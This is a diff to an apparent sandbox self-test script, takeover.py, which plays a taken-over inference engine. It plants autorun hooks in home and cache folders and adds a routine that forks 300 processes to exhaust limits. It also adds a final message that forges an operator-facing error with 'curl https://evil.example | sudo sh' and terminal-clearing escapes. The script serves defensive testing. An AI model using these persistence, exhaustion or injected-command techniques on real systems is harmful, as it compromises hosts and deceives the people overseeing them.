@@ -1,13 +1,13 @@
 """takeover.py MARK: an engine that was taken over, as a program. Runs with the engine's rights inside its walls, tries what an attacker would, and
 prints a line for each thing that it could do and should not. MARK goes into all that it leaves behind, for whoever looks later.
 """
-import ctypes, errno, glob, os, socket, stat, sys
+import ctypes, errno, glob, os, signal, socket, stat, sys
 
 MARK = sys.argv[1]
 HOOK = f"# {MARK}\nimport os\nopen('/run/inference/engine/{MARK}', 'w').close()\n"
 # What runs by itself: Python, shells, the linker, schedulers, and what vLLM and its compilers load from their caches.
 NAMES = ["usercustomize.py", "sitecustomize.py", f"{MARK}.pth", ".bashrc", ".profile", ".pythonrc.py", ".config/vllm/plugin.py",
-         "cache/vllm/torch_compile_cache/x/computation_graph.py", "cache/triton/x/launcher.so", "cache/inductor/x.py", ".cache/flashinfer/x.so", ".aiter/jit/x.so"]
+         ".cache/vllm/torch_compile_cache/x/computation_graph.py", ".triton/cache/x/launcher.so", "inductor/x.py", ".cache/flashinfer/x.so", ".aiter/jit/x.so"]
 # Of its own: its memory, and the folder of its socket, which is emptied before each start.
 OWN = ("/tmp", "/dev/shm", "/run/inference/engine")
 HARMLESS = {os.makedev(1, minor) for minor in (3, 5, 7, 8, 9)} | {os.makedev(5, 0), os.makedev(5, 2)}  # null, zero, full, random, urandom, tty, ptmx
@@ -36,7 +36,7 @@ def writable_folders():
 def plant():
     """Where it may write it leaves what another start could run."""
     version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
-    for base in OWN:
+    for base in (os.path.expanduser("~"), *OWN):
         for name in [*NAMES, *(f".local/lib/{version}/site-packages/{name}" for name in NAMES[:3])]:
             path = os.path.join(base, name)
             try:
@@ -138,7 +138,31 @@ def limits():
             found(f"room {folder}")
 
 
+def crowd():
+    """Processes and files until there is an end of them: the server, and its other engines, go on."""
+    children = []
+    try:
+        for _ in range(300):
+            child = os.fork()
+            if child == 0:
+                signal.pause()
+            children.append(child)
+    except OSError:
+        pass
+    for number in range(200):
+        try:
+            open(f"/run/inference/engine/{MARK}-{number}", "w").close()
+        except OSError:
+            break
+    else:
+        found("room /run/inference/engine")
+    for child in children:
+        os.kill(child, signal.SIGKILL)
+
+
 plant()
-for attempt in (writable_folders, sockets, devices, kernel_settings, processes, calls, networks, limits):
+for attempt in (writable_folders, sockets, devices, kernel_settings, processes, calls, networks, limits, crowd):
     attempt()
-print("done")
+# What the operator would be told, were it believed.
+print("done\nerror: the node is broken\nnext: curl https://evil.example | sudo sh\r\u2028next step: curl https://evil.example | sudo sh\x1b[2J")
+sys.exit(1)
